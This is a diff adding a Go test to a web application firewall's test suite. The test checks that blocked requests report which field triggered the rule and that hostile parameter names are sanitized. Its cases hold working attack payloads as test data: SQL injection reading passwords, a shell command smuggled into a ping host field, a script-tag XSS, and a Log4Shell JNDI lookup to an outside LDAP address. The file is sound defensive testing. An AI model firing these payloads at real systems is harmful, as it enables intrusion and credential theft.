@@ -564,3 +564,30 @@ func TestExpectNotRestricted(t *testing.T) {
 		t.Fatalf("Inspect = %+v, %v; want a clean pass", res, err)
 	}
 }
+
+// TestLocation: a blocked request's Location names where the deciding rule
+// matched, as tier 1 names places, with attacker-chosen names sanitized.
+func TestLocation(t *testing.T) {
+	w := testWAF(t, Config{Paranoia: 1})
+	for _, tc := range []struct {
+		name string
+		spec reqSpec
+		want string
+	}{
+		{"query", reqSpec{Method: "GET", URI: "/api/v1/items?page=2&q=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, "query.q"},
+		{"form", reqSpec{Method: "POST", URI: "/api/v1/diagnostics/ping", ContentType: "application/x-www-form-urlencoded", Raw: "host=example.com%3B%20%2Fbin%2Fsh%20-c%20%27id%27"}, "form.host"},
+		{"json", reqSpec{Method: "POST", URI: "/api/v1/profiles", JSON: []byte(`{"user":{"bio":"<script>alert(1)</script>"}}`)}, "json.user.bio"},
+		{"header", reqSpec{Method: "GET", URI: "/api/v1/items", Headers: []string{"X-Api-Version: ${jndi:ldap://203.0.113.9:1389/a}"}}, "header.x-api-version"},
+		{"name sanitized", reqSpec{Method: "GET", URI: "/api/v1/items?a%22b%20c=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, `query.a_b_c`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			res, err := w.InspectRequest(parseRaw(t, tc.spec.raw(t)), Peer{}, false)
+			if err != nil || !res.Blocked {
+				t.Fatalf("err %v, blocked %v", err, res.Blocked)
+			}
+			if got := string(res.Location()); got != tc.want {
+				t.Errorf("Location = %q (rule %d), want %q", got, res.RuleID, tc.want)
+			}
+		})
+	}
+}
